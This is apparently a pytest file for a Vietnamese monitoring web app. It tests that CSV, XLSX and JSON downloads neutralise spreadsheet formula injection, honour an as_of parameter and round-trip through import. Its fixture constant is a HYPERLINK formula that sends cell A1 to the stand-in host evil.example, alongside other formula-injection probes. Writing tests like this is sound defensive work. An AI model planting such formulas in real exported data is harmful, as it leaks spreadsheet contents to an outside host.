"""Observation downloads: text never becomes a formula, `as_of` is honoured, and a download
can be imported back unchanged."""

import csv
import io
import json
import zipfile

import pytest
from openpyxl import load_workbook

from stihub.core.models import AdministrativeUnit
from stihub.monitoring.importing import import_observations
from stihub.monitoring.models import Indicator, Observation

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture
def units(db):
    province = AdministrativeUnit.objects.create(
        code=40, name="Tỉnh Nghệ An", division_type="tinh", codename="nghe_an"
    )
    return AdministrativeUnit.objects.create(
        code=16681, name="Xã Anh Sơn", division_type="xa", codename="anh_son", parent=province
    )


@pytest.fixture
def risky(nghe_an, agency, units):
    """PII rank observations whose text cells a spreadsheet would take for formulas."""
    indicator = Indicator.objects.get(code="PII_RANK")
    rows = [
        (2023, 33.0, "", FORMULA, "-2+3", agency, False),
        (2024, -2.5, "", "@SUM(A1:A9)", "+84 238 3844 500", None, False),
        (2024, 12.0, "Xã Anh Sơn", "ước tính", "", agency, True),
    ]
    for year, value, area, note, source, by, sample in rows:
        Observation.objects.create(status="approved",
            indicator=indicator, year=year, value=value, area=area, note=note, source=source,
            agency=by, is_sample=sample,
        )  # fmt: skip
    return indicator


def url(nghe_an, fmt, query=""):
    target = nghe_an.targets.get(indicator__code="PII_RANK")
    return f"/monitoring/r/{nghe_an.code}/t/{target.code}/data.{fmt}{query}"


def test_csv_text_cells_get_a_quote_and_numbers_stay_numbers(client, risky, nghe_an):
    Observation.objects.create(
        status="approved", indicator=risky, year=2025, value=1, note="\tgiữa", source="\rđầu"
    )
    text = client.get(url(nghe_an, "csv")).content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(r["year"], r["value"], r["area"], r["note"], r["source"]) for r in rows] == [
        ("2023", "33.0", "", "'" + FORMULA, "'-2+3"),
        ("2024", "-2.5", "", "'@SUM(A1:A9)", "'+84 238 3844 500"),
        ("2025", "1.0", "", "'\tgiữa", "'\rđầu"),
        ("2024", "12.0", "Xã Anh Sơn", "ước tính", ""),
    ]


def test_xlsx_text_cells_are_strings_never_formulas(client, risky, nghe_an):
    body = client.get(url(nghe_an, "xlsx")).content
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(body)).active
    assert [c.value for c in sheet[1]][:5] == ["indicator", "year", "value", "area", "note"]
    assert (sheet["E2"].value, sheet["E2"].data_type) == (FORMULA, "s")
    assert (sheet["F2"].value, sheet["F2"].data_type) == ("-2+3", "s")
    assert (sheet["C3"].value, sheet["C3"].data_type) == (-2.5, "n")


def test_json_and_api_return_the_text_as_it_is(client, risky, nghe_an):
    data = json.loads(client.get(url(nghe_an, "json")).content)
    assert [(d["note"], d["source"]) for d in data][:2] == [
        (FORMULA, "-2+3"),
        ("@SUM(A1:A9)", "+84 238 3844 500"),
    ]
    api = client.get("/api/observations/?indicator=PII_RANK").json()["results"]
    assert {o["note"] for o in api} == {FORMULA, "@SUM(A1:A9)", "ước tính"}


def test_downloads_honour_as_of_and_ignore_a_bad_one(client, risky, nghe_an):
    for query, years in [("?as_of=2023", ["2023"]), ("?as_of=20x3", ["2023", "2024", "2024"])]:
        text = client.get(url(nghe_an, "csv", query)).content.decode("utf-8-sig")
        assert [r["year"] for r in csv.DictReader(io.StringIO(text))] == years
    whole = client.get(f"/monitoring/r/{nghe_an.code}/data.json?as_of=2023").json()
    assert [(d["indicator"], d["year"]) for d in whole] == [("PII_RANK", 2023)]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_download_imports_back_unchanged(client, risky, nghe_an, fmt):
    before = set(Observation.objects.values_list(
        "indicator__code", "year", "area", "value", "note", "source", "agency__code", "is_sample"
    ))  # fmt: skip
    body = io.BytesIO(client.get(url(nghe_an, fmt)).content)
    counts = import_observations(body, f"download.{fmt}")
    assert (counts["created"], counts["updated"], counts["unchanged"]) == (0, 0, 3)
    after = set(Observation.objects.values_list(
        "indicator__code", "year", "area", "value", "note", "source", "agency__code", "is_sample"
    ))  # fmt: skip
    assert after == before


def test_pages_as_of_a_year_link_to_downloads_as_of_that_year(client, risky, nghe_an):
    page = client.get(f"/monitoring/r/{nghe_an.code}/?as_of=2023").content.decode()
    assert f"/monitoring/r/{nghe_an.code}/data.csv?as_of=2023" in page
    assert (
        url(nghe_an, "xlsx", "?as_of=2023")
        in client.get(url(nghe_an, "csv").replace("data.csv", "") + "?as_of=2023").content.decode()
    )
